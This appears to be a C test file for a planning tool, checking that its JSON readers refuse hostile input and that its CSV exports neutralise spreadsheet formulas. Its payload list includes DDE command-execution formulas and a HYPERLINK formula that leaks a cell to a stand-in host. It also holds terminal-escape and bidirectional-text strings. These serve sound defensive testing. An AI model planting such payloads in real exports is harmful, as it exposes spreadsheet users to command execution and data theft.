/* test-hostile.c: hostile and careless input to the core's readers and writers.
 *
 * Every JSON the program reads (scenario files, the dataset, changes stored in a document)
 * is refused with a message that says what is wrong when it nests too deep, repeats a key,
 * hides characters a reviewer cannot see, or holds numbers the model cannot use; nothing
 * crashes. Every CSV the program writes keeps text from users and data from becoming a
 * spreadsheet formula; the cells are read back by Python's csv module.
 *
 * The tables below are also what the reliability note counts: each case tried, each case
 * that was refused with the expected message (or, for the good cases, read as meant).
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <math.h>
#include <sqlite3.h>
#include <string.h>
#include <json-glib/json-glib.h>
#include <glib/gstdio.h>

#include "fp-test-util.h"

/* A scenario file with one change of each shape the cases below bend. */
#define CHANGE_EXIT "{\"kind\": \"exit_site\", \"year\": 2027, \"site\": \"LIFT1\", " \
                    "\"to_sites\": [\"PS1\"]}"
#define SCENARIO(name, changes) "{\"name\": " name ", \"changes\": [" changes "]}"
/* A scenario “A” whose one change leaves LIFT1, with more fields. */
#define EXIT_WITH(fields) SCENARIO ("\"A\"", "{\"kind\": \"exit_site\", \"year\": 2027, " \
                                            "\"site\": \"LIFT1\", " fields "}")
#define OPEN_SITE(id) "{\"kind\": \"open_site\", \"year\": 2027, \"id\": " id ", " \
                      "\"name\": \"New hub\", \"site_type\": \"hub\", \"lat\": 52.5, " \
                      "\"lon\": -1.9, \"gia_m2\": 1000, \"rooms\": {\"consult\": 4}, " \
                      "\"hours_open_per_week\": 50, \"capital_cost\": 1000000, " \
                      "\"running_cost\": 100000, \"tenure\": \"leasehold\"}"

static char *
repeat (const char *unit,
        guint       n)
{
  GString *s = g_string_new (NULL);

  for (guint i = 0; i < n; i++)
    g_string_append (s, unit);
  return g_string_free (s, FALSE);
}

static char *
nested (guint       depth,
        const char *open,
        const char *inner,
        const char *close)
{
  g_autofree char *opens = repeat (open, depth);
  g_autofree char *closes = repeat (close, depth);

  return g_strconcat (opens, inner, closes, NULL);
}

static FpScenario *
scenario_from_text (const char *text,
                    gsize       size,
                    GError    **error)
{
  g_autoptr(GBytes) bytes = g_bytes_new (text, size);

  return fp_scenario_from_json (bytes, error);
}

static FpScenario *
scenario_from_string (const char *text,
                      GError    **error)
{
  return scenario_from_text (text, strlen (text), error);
}

/* ---- Deep nesting --------------------------------------------------------------------- */

/* 80 KB of "[" made json-glib recurse once per level until the stack ran out. */
static void
test_deep_nesting (void)
{
  g_autofree char *brackets = repeat ("[", 80000);
  g_autofree char *deep_note = nested (100000, "[", "1", "]");
  g_autofree char *deep_scenario = g_strdup_printf (SCENARIO ("\"Deep\"",
      "{\"kind\": \"exit_site\", \"year\": 2027, \"site\": \"LIFT1\", \"note\": %s}"), deep_note);
  g_autofree char *deep_objects = nested (50000, "{\"a\": ", "1", "}");
  const struct { const char *label; const char *text; } cases[] = {
    { "80 KB of [", brackets },
    { "a change's note nested 100,000 deep", deep_scenario },
    { "objects nested 50,000 deep", deep_objects },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GError) error = NULL;
      g_autoptr(GError) dataset_error = NULL;
      g_autoptr(FpScenario) s = scenario_from_text (cases[i].text, strlen (cases[i].text), &error);
      g_autoptr(GBytes) bytes = g_bytes_new (cases[i].text, strlen (cases[i].text));
      g_autoptr(FpEstate) estate = fp_dataset_parse (bytes, &dataset_error);

      g_test_message ("%s: %s", cases[i].label, error->message);
      g_assert_null (s);
      g_assert_error (error, FP_ERROR, FP_ERROR_INVALID_DATA);
      g_assert_nonnull (strstr (error->message, "deeper than"));
      g_assert_null (estate);
      g_assert_error (dataset_error, FP_ERROR, FP_ERROR_INVALID_DATA);
      g_assert_nonnull (strstr (dataset_error->message, "deeper than"));
    }
}

/* A document whose stored change was made deep on purpose (its CHECK constraint ignored,
 * as a hostile file can do): loading the scenarios says so and does not crash. */
static void
test_deep_stored_change (void)
{
  g_autoptr(FpEstate) estate = fp_test_load_tiny ();
  g_autoptr(FpStore) store = NULL;
  g_autoptr(FpScenario) scenario = fp_scenario_new ("Deep");
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) loaded = NULL;
  g_autofree char *path = fp_test_tmpfile ("deep-change.footprint");
  g_autofree char *inner = nested (80000, "[", "", "]");
  g_autofree char *params = g_strdup_printf ("{\"site\": %s}", inner);
  const char *bad_params[] = { params, "", "{\"site\": \"LIFT1\", \"site\": \"PS1\"}" };
  FpChange *change = fp_change_new (FP_CHANGE_EXIT_SITE, 2027);

  change->site = g_strdup ("LIFT1");
  g_ptr_array_add (scenario->changes, change);
  scenario->applied = 1;

  store = fp_store_create (path, &error);
  g_assert_no_error (error);
  g_assert_true (fp_store_save_estate (store, estate, &error));
  g_assert_true (fp_store_insert_scenario (store, scenario, FALSE, &error));
  g_assert_no_error (error);

  for (guint i = 0; i < G_N_ELEMENTS (bad_params); i++)
    {
      sqlite3 *db = NULL;
      sqlite3_stmt *stmt = NULL;
      g_autoptr(GError) load_error = NULL;

      g_clear_object (&store);
      g_assert_cmpint (sqlite3_open (path, &db), ==, SQLITE_OK);
      g_assert_cmpint (sqlite3_exec (db, "PRAGMA ignore_check_constraints = ON", NULL, NULL, NULL),
                       ==, SQLITE_OK);
      g_assert_cmpint (sqlite3_prepare_v2 (db, "UPDATE changes SET params = ?", -1, &stmt, NULL),
                       ==, SQLITE_OK);
      sqlite3_bind_text (stmt, 1, bad_params[i], -1, SQLITE_STATIC);
      g_assert_cmpint (sqlite3_step (stmt), ==, SQLITE_DONE);
      sqlite3_finalize (stmt);
      sqlite3_close (db);

      store = fp_store_open (path, &error);
      g_assert_no_error (error);
      loaded = fp_store_load_scenarios (store, &load_error);
      g_assert_null (loaded);
      g_assert_error (load_error, FP_ERROR, FP_ERROR_INVALID_DATA);
      g_test_message ("stored params %u: %s", i, load_error->message);
      g_assert_nonnull (strstr (load_error->message, "scenario “Deep”, change 1"));
    }
}

/* ---- Bad scenario files ----------------------------------------------------------------- */

typedef struct
{
  const char *label;
  const char *text;     /* NULL: built by the test */
  gssize      size;     /* -1: strlen */
  const char *expect;   /* a fragment of the message */
} BadCase;

static const BadCase bad_scenarios[] = {
  { "empty", "", 0, "is empty" },
  { "only blanks", "  \n\t ", -1, "is empty" },
  { "a NUL byte", "{\"name\": \"A\0B\", \"changes\": []}", 27, "NUL character" },
  { "an escaped NUL", SCENARIO ("\"Hubs\\u0000 and more\"", ""), -1, "NUL character" },
  { "not UTF-8", SCENARIO ("\"Caf\xe9\"", ""), -1, "not UTF-8" },
  { "two top-level objects", SCENARIO ("\"A\"", "") " " SCENARIO ("\"B\"", ""), -1,
    "after the end" },
  { "a comment", "/* hidden */ " SCENARIO ("\"A\"", ""), -1, "not valid JSON" },
  { "single quotes", "{\"name\": 'A', \"changes\": []}", -1, "not valid JSON" },
  { "a hexadecimal year", SCENARIO ("\"A\"", "{\"kind\": \"exit_site\", \"year\": 0x7eb, "
                                           "\"site\": \"LIFT1\"}"), -1, "not valid JSON" },
  { "a leading zero", SCENARIO ("\"A\"", "{\"kind\": \"exit_site\", \"year\": 02027, "
                                        "\"site\": \"LIFT1\"}"), -1, "not valid JSON" },
  { "a bare word", SCENARIO ("\"A\"", "{\"kind\": \"exit_site\", \"year\": 2027, "
                                     "\"site\": LIFT1}"), -1, "not valid JSON" },
  { "a trailing comma", SCENARIO ("\"A\"", CHANGE_EXIT ","), -1, "not valid JSON" },
  { "a lone surrogate", SCENARIO ("\"A\\ud800\"", ""), -1, "not valid JSON" },
  { "changes twice", "{\"name\": \"A\", \"changes\": [" CHANGE_EXIT "], \"changes\": []}", -1,
    "“changes” twice" },
  { "a field twice in a change", EXIT_WITH ("\"site\": \"PS1\""), -1, "“site” twice" },
  { "a key twice, once escaped", "{\"name\": \"A\", \"n\\u0061me\": \"B\", \"changes\": []}", -1,
    "“name” twice" },
  { "a year past 64 bits", SCENARIO ("\"A\"", "{\"kind\": \"exit_site\", \"site\": \"LIFT1\", "
                                             "\"year\": 99999999999999999999999}"),
    -1, "99999999999999999999999" },
  { "a negative year past 64 bits", SCENARIO ("\"A\"", "{\"kind\": \"exit_site\", "
                                                      "\"year\": -99999999999999999999999, "
                                                      "\"site\": \"LIFT1\"}"),
    -1, "-99999999999999999999999" },
  { "a share of 1e400", SCENARIO ("\"A\"", "{\"kind\": \"change_growth\", \"year\": 2027, "
                                          "\"service\": \"gp_appointments\", \"rate\": 1e400}"),
    -1, "1e400" },
  { "a share of 1e-400", SCENARIO ("\"A\"", "{\"kind\": \"change_growth\", \"year\": 2027, "
                                           "\"service\": \"gp_appointments\", \"rate\": 1e-400}"),
    -1, "1e-400" },
  { "a year of 400 digits", NULL, -1, "beyond what Footprint can read" },
  { "a weight of 1e17", EXIT_WITH ("\"to_sites\": [\"PS1\", \"BR1\"], \"weights\": [1e17, 1]"),
    -1, "1e+17" },
  { "ANSI colour in the name", SCENARIO ("\"\\u001b[31mHubs\"", ""), -1, "control character" },
  { "a bell in the owner", EXIT_WITH ("\"owner\": \"Est\\u0007ates\""), -1, "control character" },
  { "a terminal title in a note", EXIT_WITH ("\"note\": \"x\\u001b]0;owned\\u0007\""), -1,
    "control character" },
  { "a C1 control in the name", SCENARIO ("\"Hubs\\u009b31m\"", ""), -1, "control character" },
  { "a tab in the name", SCENARIO ("\"Hubs\\tplan\"", ""), -1, "control character" },
  { "a line break in the name", SCENARIO ("\"Hubs\\nplan\"", ""), -1, "control character" },
  { "a carriage return in a note", EXIT_WITH ("\"note\": \"ok\\rno\""), -1,
    "control character" },
  { "ANSI in the description",
    "{\"name\": \"A\", \"description\": \"\\u001b[2J\", \"changes\": []}", -1,
    "control character" },
  { "a right-to-left override in a site id", SCENARIO ("\"A\"", "{\"kind\": \"exit_site\", "
                                                               "\"year\": 2027, "
                                                               "\"site\": \"LIFT1\\u202e\"}"),
    -1, "bidirectional" },
  { "an isolate in the name", SCENARIO ("\"\\u2066Hubs\\u2069\"", ""), -1, "bidirectional" },
  { "an override in the parent",
    "{\"name\": \"A\", \"parent\": \"\\u202dB\", \"changes\": []}", -1, "bidirectional" },
  { "an embedding in an owner", EXIT_WITH ("\"owner\": \"\\u202bX\""), -1, "bidirectional" },
  { "a zero-width space in the name", SCENARIO ("\"Hu\\u200bbs\"", ""), -1, "invisible" },
  { "ANSI in a field name", EXIT_WITH ("\"\\u001b[2J\": 1"), -1, "control character" },
  { "Do nothing with a space after", SCENARIO ("\"Do nothing \"", ""), -1, "empty scenario" },
  { "do nothing with a space before", SCENARIO ("\" do nothing\"", ""), -1, "empty scenario" },
  { "Do nothing with a no-break space", SCENARIO ("\"Do nothing\\u00a0\"", ""), -1,
    "empty scenario" },
  { "a name of blanks", SCENARIO ("\"   \"", ""), -1, "“name” is empty" },
  { "a name of 201 characters", NULL, -1, "longer than" },
  { "an empty id", SCENARIO ("\"A\"", OPEN_SITE ("\"\"")), -1, "“id” is empty" },
  { "an id of blanks", SCENARIO ("\"A\"", OPEN_SITE ("\"  \"")), -1, "“id” is empty" },
  { "a site of blanks", SCENARIO ("\"A\"", "{\"kind\": \"exit_site\", \"year\": 2027, "
                                          "\"site\": \" \"}"), -1, "“site” is empty" },
  { "a receiver twice", EXIT_WITH ("\"to_sites\": [\"PS1\", \"PS1\"]"), -1, "twice" },
  { "a receiver twice, once padded", EXIT_WITH ("\"to_sites\": [\"PS1\", \" PS1 \"]"), -1,
    "twice" },
  { "an empty receiver", SCENARIO ("\"A\"", "{\"kind\": \"shift_setting\", \"year\": 2027, "
                                           "\"service\": \"gp_appointments\", "
                                           "\"from_setting\": \"acute\", \"share\": 0.1, "
                                           "\"to_sites\": [\"PS1\", \"\"]}"), -1, "site id" },
  { "1,001 changes", NULL, -1, "at most 1000 changes" },
  { "a file over 1 MB", NULL, -1, "more than the 1.0" },
  { "an array, not an object", "[]", -1, "one JSON object" },
  { "a number as the name", "{\"name\": 5, \"changes\": []}", -1, "must be text" },
};

static char *
build_case (const BadCase *c,
            gsize         *size)
{
  g_autoptr(GString) s = g_string_new (NULL);

  if (c->text != NULL)
    {
      *size = c->size < 0 ? strlen (c->text) : (gsize) c->size;
      return g_memdup2 (c->text, *size + 1);
    }

  if (g_str_equal (c->label, "a year of 400 digits"))
    {
      g_autofree char *digits = repeat ("9", 400);
      g_string_printf (s, SCENARIO ("\"A\"", "{\"kind\": \"exit_site\", \"year\": %s, "
                                            "\"site\": \"LIFT1\"}"), digits);
    }
  else if (g_str_equal (c->label, "a name of 201 characters"))
    {
      g_autofree char *name = repeat ("é", 201);
      g_string_printf (s, SCENARIO ("\"%s\"", ""), name);
    }
  else if (g_str_equal (c->label, "1,001 changes"))
    {
      g_string_append (s, "{\"name\": \"Many\", \"changes\": [");
      for (guint i = 0; i < 1001; i++)
        g_string_append_printf (s, "%s{\"kind\": \"change_hours\", \"year\": 2027, "
                                   "\"site\": \"LIFT1\", \"hours_open_per_week\": %u}",
                                i ? ", " : "", i % 168);
      g_string_append (s, "]}");
    }
  else if (g_str_equal (c->label, "a file over 1 MB"))
    {
      g_autofree char *padding = repeat (" ", 1024 * 1024);
      g_string_printf (s, "%s" SCENARIO ("\"Big\"", ""), padding);
    }
  else
    g_assert_not_reached ();

  *size = s->len;
  return g_string_free (g_steal_pointer (&s), FALSE);
}

static void
test_bad_scenarios (void)
{
  guint refused = 0;
  g_autoptr(GString) failures = g_string_new (NULL);

  for (guint i = 0; i < G_N_ELEMENTS (bad_scenarios); i++)
    {
      const BadCase *c = &bad_scenarios[i];
      g_autoptr(GError) error = NULL;
      g_autoptr(FpScenario) s = NULL;
      g_autofree char *text = NULL;
      gsize size = 0;

      text = build_case (c, &size);
      s = scenario_from_text (text, size, &error);
      if (s == NULL && error != NULL && error->domain == FP_ERROR &&
          error->code == FP_ERROR_INVALID_DATA && strstr (error->message, c->expect) != NULL)
        {
          refused++;
          g_test_message ("refused, %s: %s", c->label, error->message);
        }
      else
        g_string_append_printf (failures, "\n  %s: expected “%s”, got %s", c->label, c->expect,
                                s ? "a scenario" : error ? error->message : "no error");
    }

  g_test_message ("bad scenario files: %u tried, %u refused as expected",
                  (guint) G_N_ELEMENTS (bad_scenarios), refused);
  if (failures->len > 0)
    g_error ("%u of %u bad scenario files were not refused as expected:%s",
             (guint) G_N_ELEMENTS (bad_scenarios) - refused,
             (guint) G_N_ELEMENTS (bad_scenarios), failures->str);
}

/* What is close to a bad case but fine is read as written (or, for blanks around a name,
 * as a reviewer reads it). */
static void
test_good_scenarios (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(FpScenario) trimmed = NULL;
  g_autoptr(FpScenario) prose = NULL;
  g_autoptr(FpScenario) bom = NULL;
  g_autoptr(FpScenario) many = NULL;
  g_autoptr(GString) s = g_string_new ("{\"name\": \"Many\", \"changes\": [");
  const char *bom_text = "\xef\xbb\xbf" SCENARIO ("\"With a BOM\"", "");
  g_autofree char *long_name = repeat ("é", 100);
  g_autofree char *long_text = g_strdup_printf (SCENARIO ("\"%s\"", ""), long_name);
  g_autoptr(FpScenario) long_ok = NULL;
  FpChange *c;

  trimmed = scenario_from_string (SCENARIO ("\"  Hubs \"",
                                          "{\"kind\": \"exit_site\", \"year\": 2027, "
                                          "\"site\": \" LIFT1\", \"owner\": \" Estates \", "
                                          "\"to_sites\": [\"PS1 \"]}"), &error);
  g_assert_no_error (error);
  g_assert_cmpstr (trimmed->name, ==, "Hubs");
  c = g_ptr_array_index (trimmed->changes, 0);
  g_assert_cmpstr (c->site, ==, "LIFT1");
  g_assert_cmpstr (c->owner, ==, "Estates");
  g_assert_cmpstr (c->to_sites[0], ==, "PS1");

  prose = scenario_from_string (SCENARIO ("\"Café ☕ Ünïcode — שלום\"",
                                        "{\"kind\": \"exit_site\", \"year\": 2027, "
                                        "\"site\": \"LIFT1\", "
                                        "\"note\": \"Line one\\nLine two\\twith a tab\"}"),
                                &error);
  g_assert_no_error (error);
  g_assert_cmpstr (prose->name, ==, "Café ☕ Ünïcode — שלום");
  g_assert_cmpstr (((FpChange *) g_ptr_array_index (prose->changes, 0))->note, ==,
                   "Line one\nLine two\twith a tab");

  bom = scenario_from_text (bom_text, strlen (bom_text), &error);
  g_assert_no_error (error);
  g_assert_cmpstr (bom->name, ==, "With a BOM");

  long_ok = scenario_from_text (long_text, strlen (long_text), &error);
  g_assert_no_error (error);
  g_assert_cmpuint (g_utf8_strlen (long_ok->name, -1), ==, 100);

  for (guint i = 0; i < 1000; i++)
    g_string_append_printf (s, "%s{\"kind\": \"change_hours\", \"year\": 2027, "
                               "\"site\": \"LIFT1\", \"hours_open_per_week\": %u}",
                            i ? ", " : "", i % 168);
  g_string_append (s, "]}");
  many = scenario_from_text (s->str, s->len, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (many->changes->len, ==, 1000);
}

/* A change built by the command line (not parsed from text) is checked the same way. */
static void
test_change_fields (void)
{
  const struct { const char *field; const char *value; const char *expect; } cases[] = {
    { "owner", "\x1b[31mEstates", "control character" },
    { "note", "ok\x1b[2Jno", "control character" },
    { "site", "LIFT1\xe2\x80\xae", "bidirectional" },
    { "site", "   ", "“site” is empty" },
    { "owner", "", NULL },  /* an empty optional owner is no owner */
  };
  guint refused = 0;

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(JsonObject) o = json_object_new ();
      g_autoptr(GError) error = NULL;
      g_autoptr(FpChange) change = NULL;

      json_object_set_string_member (o, "kind", "exit_site");
      json_object_set_int_member (o, "year", 2027);
      json_object_set_string_member (o, "site", "LIFT1");
      json_object_set_string_member (o, cases[i].field, cases[i].value);
      change = fp_change_from_json (o, "Change 1", &error);
      if (cases[i].expect == NULL)
        {
          g_assert_no_error (error);
          g_assert_null (change->owner);
          continue;
        }
      g_assert_null (change);
      g_assert_error (error, FP_ERROR, FP_ERROR_INVALID_DATA);
      g_assert_nonnull (strstr (error->message, cases[i].expect));
      refused++;
    }
  g_assert_cmpuint (refused, ==, G_N_ELEMENTS (cases) - 1);

  /* No object at all is refused, not dereferenced. */
  {
    g_autoptr(GError) error = NULL;
    g_autoptr(FpChange) change = fp_change_from_json (NULL, "Change 1", &error);

    g_assert_null (change);
    g_assert_error (error, FP_ERROR, FP_ERROR_INVALID_DATA);
  }
}

/* Empty input to the core's parsers. */
static void
test_empty_input (void)
{
  g_autoptr(GBytes) empty = g_bytes_new (NULL, 0);
  g_autoptr(GError) e1 = NULL;
  g_autoptr(GError) e2 = NULL;
  g_autoptr(FpScenario) s = fp_scenario_from_json (empty, &e1);
  g_autoptr(FpEstate) estate = fp_dataset_parse (empty, &e2);

  g_assert_null (s);
  g_assert_error (e1, FP_ERROR, FP_ERROR_INVALID_DATA);
  g_assert_nonnull (strstr (e1->message, "empty"));
  g_assert_null (estate);
  g_assert_error (e2, FP_ERROR, FP_ERROR_INVALID_DATA);
  g_assert_nonnull (strstr (e2->message, "empty"));
}

/* The dataset reader refuses what the scenario reader refuses. */
static void
test_bad_dataset (void)
{
  g_autoptr(GBytes) tiny = fp_test_read_data_file ("tiny-dataset.json");
  const char *text = g_bytes_get_data (tiny, NULL);
  const struct { const char *from, *to, *expect; } cases[] = {
    { "\"format\"", "\"format\": \"x\", \"format\"", "“format” twice" },
    { "\"name\": \"Lift Centre", "\"name\": \"\\u202eLift Centre", "bidirectional" },
    { "\"base_year\": 2025", "\"base_year\": 99999999999999999999999", "99999999999999999999999" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GError) error = NULL;
      g_autoptr(GString) bad = g_string_new (text);
      g_autoptr(GBytes) bytes = NULL;
      g_autoptr(FpEstate) estate = NULL;

      g_assert_cmpuint (g_string_replace (bad, cases[i].from, cases[i].to, 1), ==, 1);
      bytes = g_bytes_new (bad->str, bad->len);
      estate = fp_dataset_parse (bytes, &error);
      g_assert_null (estate);
      g_assert_error (error, FP_ERROR, FP_ERROR_INVALID_DATA);
      g_test_message ("%s", error->message);
      g_assert_nonnull (strstr (error->message, cases[i].expect));
    }
}

/* ---- Writing numbers ------------------------------------------------------------------- */

/* json-glib writes 1e17 as “1e+17.0”, which no JSON reader accepts; what Footprint writes
 * must read back as the same numbers. */
static void
test_large_numbers_written (void)
{
  const double values[] = { 1e17, -2e20, 1e300, 1e-300, 5e-324, 123456789012345678.0, 0.1, -0.0 };
  g_autoptr(JsonBuilder) b = json_builder_new ();
  g_autoptr(JsonNode) root = NULL;
  g_autoptr(JsonNode) again = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(GRegex) bad_number = g_regex_new ("[eE][-+]?[0-9]+\\.|inf|nan", 0, 0, NULL);
  g_autofree char *text = NULL;
  JsonArray *array;

  json_builder_begin_array (b);
  for (guint i = 0; i < G_N_ELEMENTS (values); i++)
    json_builder_add_double_value (b, values[i]);
  json_builder_end_array (b);
  root = json_builder_get_root (b);

  text = fp_json_to_string (root, FALSE);
  g_test_message ("%s", text);
  g_assert_false (g_regex_match (bad_number, text, 0, NULL));
  again = json_from_string (text, &error);
  g_assert_no_error (error);
  array = json_node_get_array (again);
  g_assert_cmpuint (json_array_get_length (array), ==, G_N_ELEMENTS (values));
  for (guint i = 0; i < G_N_ELEMENTS (values); i++)
    g_assert_cmpfloat (json_node_get_double (json_array_get_element (array, i)), ==, values[i]);

  /* A change with such weights goes to the store and comes back. */
  {
    g_autoptr(FpChange) change = fp_change_new (FP_CHANGE_EXIT_SITE, 2027);
    g_autoptr(JsonNode) node = NULL;
    g_autoptr(JsonNode) back = NULL;
    g_autoptr(FpChange) read = NULL;
    g_autofree char *json = NULL;
    double w[] = { 1e8, 1 };

    change->site = g_strdup ("LIFT1");
    change->to_sites = g_strsplit ("PS1,BR1", ",", -1);
    change->weights = g_array_new (FALSE, FALSE, sizeof (double));
    g_array_append_vals (change->weights, w, 2);
    node = fp_change_to_json (change, TRUE);
    json = fp_json_to_string (node, FALSE);
    back = json_from_string (json, &error);
    g_assert_no_error (error);
    read = fp_change_from_json (json_node_get_object (back), "Change 1", &error);
    g_assert_no_error (error);
    g_assert_cmpfloat (g_array_index (read->weights, double, 0), ==, 1e8);
  }
}

/* ---- CSV injection -------------------------------------------------------------------- */

static const char * const payloads[] = {
  "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=1+1,\"quoted\"\r\nsecond line",
};

/* Runs tests/check-csv-cells.py on @csv: every cell that begins as a formula would must be a
 * number, and each payload must be found, neutralised, in a cell. */
static void
check_csv (const char         *label,
           const char         *csv,
           const char * const *expect,
           guint               n_expect)
{
  g_autofree char *path = fp_test_tmpfile ("cells.csv");
  g_autofree char *script = g_test_build_filename (G_TEST_DIST, "check-csv-cells.py", NULL);
  g_autoptr(GPtrArray) argv = g_ptr_array_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  int status = 0;

  g_assert_true (g_file_set_contents (path, csv, -1, NULL));
  g_ptr_array_add (argv, "python3");
  g_ptr_array_add (argv, script);
  g_ptr_array_add (argv, path);
  for (guint i = 0; i < n_expect; i++)
    g_ptr_array_add (argv, (gpointer) expect[i]);
  g_ptr_array_add (argv, NULL);

  g_spawn_sync (NULL, (char **) argv->pdata, NULL, G_SPAWN_SEARCH_PATH, NULL, NULL, &out, &err,
                &status, &error);
  g_assert_no_error (error);
  g_test_message ("%s: %s%s", label, out, err);
  if (!g_spawn_check_wait_status (status, NULL))
    g_error ("%s: a CSV cell would be read as a formula:\n%s%s", label, out, err);
}

static void
test_csv_injection (void)
{
  g_autoptr(FpEstate) estate = fp_test_load_tiny ();
  g_autoptr(FpModel) model = NULL;
  g_autoptr(FpResults) results = NULL;
  g_autoptr(FpAccess) access = NULL;
  g_autoptr(GPtrArray) no_changes = g_ptr_array_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *sites = NULL;
  g_autofree char *compute = NULL;
  g_autofree char *access_csv = NULL;
  g_autofree char *zones_csv = NULL;
  const char *site_payloads[G_N_ELEMENTS (payloads)];
  guint n = MIN (estate->sites->len, G_N_ELEMENTS (payloads));

  /* Site names and ids from data; the rest of the payloads go in texts. */
  for (guint i = 0; i < estate->sites->len; i++)
    {
      FpSite *site = (FpSite *) fp_estate_get_site (estate, i);

      if (i < n)
        {
          g_free (site->name);
          site->name = g_strdup (payloads[i]);
        }
      for (guint t = 0; t < FP_SITE_N_TEXTS; t++)
        {
          g_free (site->texts[t]);
          site->texts[t] = g_strdup (payloads[(i + t) % G_N_ELEMENTS (payloads)]);
        }
    }
  {
    /* An id too: the last site's. */
    FpSite *last = (FpSite *) fp_estate_get_site (estate, estate->sites->len - 1);

    g_free (last->id);
    last->id = g_strdup ("@SUM(1+1)*cmd|' /C calc'!A0");
  }
  fp_estate_reindex (estate);
  for (guint i = 0; i < n; i++)
    site_payloads[i] = payloads[i];

  sites = fp_export_sites_csv (estate);
  check_csv ("sites", sites, payloads, G_N_ELEMENTS (payloads));

  model = fp_model_new (estate, &error);
  g_assert_no_error (error);
  results = fp_compute_scenario (model, no_changes, NULL, &error);
  g_assert_no_error (error);
  for (guint p = 0; p < G_N_ELEMENTS (payloads); p++)
    {
      g_autofree char *label = g_strdup_printf ("compute, scenario %u", p);
      const char *expect[G_N_ELEMENTS (payloads) + 1];

      compute = (g_free (compute), fp_export_compute_csv (model, results, payloads[p], 0));
      for (guint i = 0; i < n; i++)
        expect[i] = site_payloads[i];
      expect[n] = payloads[p];
      check_csv (label, compute, expect, n + 1);
    }

  access = fp_access_compute (model, results, 0);
  access_csv = fp_export_access_csv (model, results, access, NULL, payloads[0], NULL, FALSE);
  check_csv ("access", access_csv, payloads, 1);
  zones_csv = fp_export_access_csv (model, results, access, NULL, payloads[1], NULL, TRUE);
  check_csv ("access by zone", zones_csv, &payloads[1], 1);
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/fp/hostile/deep-nesting", test_deep_nesting);
  g_test_add_func ("/fp/hostile/deep-stored-change", test_deep_stored_change);
  g_test_add_func ("/fp/hostile/bad-scenarios", test_bad_scenarios);
  g_test_add_func ("/fp/hostile/good-scenarios", test_good_scenarios);
  g_test_add_func ("/fp/hostile/change-fields", test_change_fields);
  g_test_add_func ("/fp/hostile/empty-input", test_empty_input);
  g_test_add_func ("/fp/hostile/bad-dataset", test_bad_dataset);
  g_test_add_func ("/fp/hostile/large-numbers-written", test_large_numbers_written);
  g_test_add_func ("/fp/hostile/csv-injection", test_csv_injection);

  return g_test_run ();
}
